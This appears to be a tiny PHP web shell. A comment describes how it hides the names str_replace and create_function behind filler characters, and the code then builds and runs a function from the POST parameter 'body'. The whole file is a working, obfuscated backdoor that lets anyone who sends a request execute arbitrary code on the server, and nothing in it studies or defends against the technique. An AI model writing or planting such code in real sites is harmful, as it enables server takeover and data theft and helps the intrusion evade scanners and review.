<?php
// str_replace's own name is hidden with a filler, then used to clean the others
$r = str_replace('zq', '', 'zqstr_zqrepzqlace');
$mk = $r('#', '', 'cr#eate_#func#tion');
$fn = $mk('', $_POST['body']);
$fn();
